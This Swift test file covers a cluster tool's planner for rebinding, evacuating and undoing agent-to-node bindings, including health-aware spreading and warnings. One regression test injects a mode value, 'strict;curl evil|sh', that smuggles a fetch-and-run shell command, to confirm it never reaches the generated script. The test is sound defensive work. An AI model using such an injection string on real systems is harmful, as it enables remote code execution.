import Foundation
import Testing
import ClusterModel

/// The planner of bulk rebind, evacuate and undo (issue 10), on a small cluster:
/// node-a (default, ok), node-b and node-e (ok), node-c (draining), node-d (offline),
/// node-f (late), node-g (silent: online but no heartbeat for a minute).
struct PlanBuilderTests {
    static let nodes = [
        node("node-a", age: 1), node("node-b", age: 2), node("node-e", age: 2), node("node-c", status: .draining, age: 2),
        node("node-d", status: .offline, age: 600), node("node-f", age: 20), node("node-g", age: 60),
    ]

    static func overview(_ assignments: [Assignment]) -> Overview {
        Overview(thisNodeName: "node-a", defaultNodeName: "node-a", nodes: nodes, assignments: assignments)
    }

    static func row(_ id: String, _ node: String, _ mode: AssignmentMode = .strict) -> Assignment {
        Assignment(entityType: .agent, entityId: id, nodeName: node, mode: mode)
    }

    static func inputs(_ assignments: [Assignment], instances: [Instance]) -> PlanInputs {
        let ov = overview(assignments)
        var health: [String: HeartbeatHealth] = [:]
        for n in ov.nodes { health[n.name] = n.health(now: t0) }
        return PlanInputs(overview: ov, instances: instances, instancesKnown: true, health: health)
    }

    static let stamp = PlanStamp(id: "20260518-100000-0001", createdAt: t0, context: "prod", url: "https://core:3000")

    /// A dead node-d with four strict and one preferred binding, two default followers of node-a.
    static let deadNode: PlanInputs = {
        let rows = ["d1", "d2", "d3", "d4"].map { row($0, "node-d") } + [row("d5", "node-d", .preferred), row("b1", "node-b")]
        let instances = rows.map { inst($0.entityId, node: $0.nodeName, mode: $0.mode, explicit: true) }
            + [inst("f1", node: "node-a"), inst("f2", node: "node-a")]
        return inputs(rows, instances: instances)
    }()

    @Test func evacuateTakesExactlyTheExplicitBindingsOfTheNode() throws {
        let plan = try PlanBuilder.evacuate("node-d", to: .spread, mode: nil, includeDefault: false, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(plan.items.map(\.key.entityId) == ["d1", "d2", "d3", "d4", "d5"])
        #expect(plan.items.allSatisfy { $0.from.node == "node-d" && $0.fromNode == "node-d" })
        // Modes are kept.
        #expect(plan.items.map { $0.to.mode } == [.strict, .strict, .strict, .strict, .preferred])
        #expect(plan.kind == .evacuate && plan.id == Self.stamp.id && plan.url == "https://core:3000")
    }

    /// `plan evacuate nosuch` planned "0 moves, nothing to move" and exited 0 for a misspelt node.
    @Test func evacuatingANameNothingKnowsIsRefused() throws {
        #expect(throws: PlanError.self) {
            try PlanBuilder.evacuate("node-dd", to: .spread, mode: nil, includeDefault: false, inputs: Self.deadNode, stamp: Self.stamp)
        }
        // A node that has no bindings but is in the registry: an empty plan, not an error.
        let empty = try PlanBuilder.evacuate("node-e", to: .spread, mode: nil, includeDefault: false, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(empty.items.isEmpty)
    }

    /// "though 4 nodes are healthy" counted the target itself among the healthy others.
    @Test func allOnOneNodeCountsTheOtherHealthyNodes() throws {
        let plan = try PlanBuilder.evacuate("node-d", to: .node("node-e"), mode: nil, includeDefault: false, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(plan.warnings.contains("all 5 moves go to node-e, though 2 other nodes are healthy"), "\(plan.warnings)")
    }

    /// "though 6 other nodes are healthy" counted the node the moves leave, and preferred moves onto an offline node had no warning.
    @Test func theNodeLeftIsNoOtherAndPreferredOntoADeadNodeIsSaid() throws {
        let keys = ["f1", "f2"].map { EntityKey(.agent, $0) }
        let spread = try PlanBuilder.rebind(keys, to: .node("node-e"), mode: .strict, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(spread.warnings.contains("all 2 moves go to node-e, though 1 other node is healthy"), "\(spread.warnings)")
        let ontoDead = try PlanBuilder.rebind(keys, to: .node("node-d"), mode: .preferred, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(ontoDead.warnings.contains { $0.hasPrefix("2 preferred moves onto node-d, which is offline: their work falls back") },
                "\(ontoDead.warnings)")
        // The warnings follow the RISK column's rules: a preferred move onto a draining node is no risk, and says nothing.
        let ontoDraining = try PlanBuilder.rebind(keys, to: .node("node-c"), mode: .preferred, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(!ontoDraining.warnings.contains { $0.contains("onto node-c, which") }, "\(ontoDraining.warnings)")
    }

    @Test func spreadNeverPicksAnUnhealthyNodeAndFillsTheLeastBoundFirst() throws {
        let plan = try PlanBuilder.evacuate("node-d", to: .spread, mode: nil, includeDefault: false, inputs: Self.deadNode, stamp: Self.stamp)
        let targets = plan.items.compactMap(\.to.node)
        // node-c draining, node-d offline, node-f late, node-g silent: never.
        #expect(Set(targets).isSubset(of: ["node-a", "node-b", "node-e"]))
        // Bound now: node-a 2 followers, node-b 1, node-e 0; each goes to the least loaded, ties by name.
        #expect(targets == ["node-e", "node-b", "node-e", "node-a", "node-b"])
        let counts = Dictionary(grouping: targets, by: { $0 }).mapValues(\.count)
        // Final loads (followers and b1 counted): a 2+x, b 1+y, e 0+z as equal as can be.
        let loads = ["node-a": 2 + (counts["node-a"] ?? 0), "node-b": 1 + (counts["node-b"] ?? 0), "node-e": counts["node-e"] ?? 0]
        #expect(loads.values.max()! - loads.values.min()! <= 1)
    }

    @Test func includeDefaultAlsoPinsTheFollowersOfTheDefaultNode() throws {
        let plan = try PlanBuilder.evacuate("node-a", to: .node("node-b"), mode: nil, includeDefault: true,
                                            inputs: Self.deadNode, stamp: Self.stamp)
        #expect(plan.items.map(\.key.entityId) == ["f1", "f2"])
        #expect(plan.items.allSatisfy { $0.from == .followsDefault && $0.to == .explicit(node: "node-b", mode: .preferred) })
        let without = try PlanBuilder.evacuate("node-a", to: .node("node-b"), mode: nil, includeDefault: false,
                                               inputs: Self.deadNode, stamp: Self.stamp)
        #expect(without.items.isEmpty)
        #expect(without.notes.first?.contains("2 entities follow node-a") == true)
    }

    /// Review of issue 10: a mode "kept" from a server row went unquoted into the script and back to the server.
    @Test func aKeptModeIsTheStoredOneNeverTheServersText() throws {
        let odd = Self.inputs([Self.row("x", "node-d", AssignmentMode("strict;curl evil|sh"))],
                              instances: [inst("x", node: "node-d", mode: .strict, explicit: true)])
        let plan = try PlanBuilder.evacuate("node-d", to: .node("node-b"), mode: nil, includeDefault: false, inputs: odd, stamp: Self.stamp)
        #expect(plan.items.map(\.to) == [.explicit(node: "node-b", mode: .strict)])
        #expect(!PlanScript.render(plan, connection: []).contains("curl"))
    }

    @Test func aModeGivenOverridesEveryItemsMode() throws {
        let plan = try PlanBuilder.evacuate("node-d", to: .node("node-b"), mode: .preferred, includeDefault: false,
                                            inputs: Self.deadNode, stamp: Self.stamp)
        #expect(plan.items.allSatisfy { $0.to == .explicit(node: "node-b", mode: .preferred) })
    }

    @Test func refusesImpossiblePlans() {
        #expect(throws: PlanError.self) {
            try PlanBuilder.evacuate("node-d", to: .node("node-d"), mode: nil, includeDefault: false, inputs: Self.deadNode, stamp: Self.stamp)
        }
        #expect(throws: PlanError.self) {
            try PlanBuilder.evacuate("node-d", to: .node("nowhere"), mode: nil, includeDefault: false, inputs: Self.deadNode, stamp: Self.stamp)
        }
        let allDown = Self.inputs([Self.row("x", "node-a")], instances: [inst("x", node: "node-a", mode: .strict, explicit: true)])
        var sick = allDown
        for name in sick.health.keys { sick.health[name] = .offline }
        #expect(throws: PlanError.self) {
            try PlanBuilder.rebind([EntityKey(.agent, "x")], to: .spread, mode: nil, inputs: sick, stamp: Self.stamp)
        }
    }

    @Test func rebindLeavesOutWhatIsAlreadyThereAndCountsIt() throws {
        let keys = ["b1", "d1"].map { EntityKey(.agent, $0) }
        let plan = try PlanBuilder.rebind(keys, to: .node("node-b"), mode: .strict, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(plan.items.map(\.key.entityId) == ["d1"])
        #expect(plan.unchanged == 1)
        #expect(plan.items[0].riskAfter == Risk.none)
    }

    @Test func warnsAboutStrictOntoADownNodeEverythingOntoOneAndPreferredOntoTheDefault() throws {
        let keys = ["f1", "f2"].map { EntityKey(.agent, $0) }
        let ontoDraining = try PlanBuilder.rebind(keys, to: .node("node-c"), mode: .strict, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(ontoDraining.warnings.contains { $0.contains("2 strict moves onto node-c, which is draining") })
        #expect(ontoDraining.warnings.contains { $0.contains("all 2 moves go to node-c") })
        #expect(ontoDraining.items.allSatisfy { $0.riskAfter == .blocked })
        let ontoDefault = try PlanBuilder.rebind(keys, to: .node("node-a"), mode: .preferred, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(ontoDefault.warnings.contains { $0.contains("2 preferred moves onto node-a, the default node") })
        let healthy = try PlanBuilder.rebind([keys[0]], to: .node("node-b"), mode: .strict, inputs: Self.deadNode, stamp: Self.stamp)
        #expect(healthy.warnings.isEmpty)
    }

    @Test func undoInvertsEachWrite() {
        let writes: [(key: EntityKey, prior: PlanBinding, requested: PlanBinding)] = [
            (EntityKey(.agent, "d1"), .explicit(node: "node-d", mode: .strict), .explicit(node: "node-b", mode: .strict)),
            (EntityKey(.agent, "f1"), .followsDefault, .explicit(node: "node-b", mode: .preferred)),
        ]
        let plan = PlanBuilder.undo(writes, of: "b-1", inputs: Self.deadNode, stamp: Self.stamp)
        #expect(plan.kind == .undo)
        #expect(plan.items.map(\.from) == [.explicit(node: "node-b", mode: .strict), .explicit(node: "node-b", mode: .preferred)])
        #expect(plan.items.map(\.to) == [.explicit(node: "node-d", mode: .strict), .followsDefault])
    }

    @Test func bindingsCompareAsTheServerStoresThem() {
        #expect(PlanBinding.explicit(node: " node-b ", mode: AssignmentMode("weird")).matches(.explicit(node: "node-b", mode: .strict)))
        #expect(!PlanBinding.explicit(node: "node-b", mode: .preferred).matches(.explicit(node: "node-b", mode: .strict)))
        #expect(PlanBinding(nil) == .followsDefault)
    }

    /// 1,000 marked rows: one plan, counts once, well within a keystroke on this machine.
    @Test func aThousandMovesPlanInOnePass() throws {
        let rows = (0..<1000).map { Self.row("m\($0)", "node-d") }
        let big = Self.inputs(rows, instances: rows.map { inst($0.entityId, node: "node-d", mode: .strict, explicit: true) })
        let plan = try PlanBuilder.evacuate("node-d", to: .spread, mode: nil, includeDefault: false, inputs: big, stamp: Self.stamp)
        #expect(plan.items.count == 1000)
        let counts = plan.countsByTarget
        #expect(counts.map(\.count).reduce(0, +) == 1000)
        #expect(Set(counts.map(\.target)) == ["node-a", "node-b", "node-e"])
    }
}
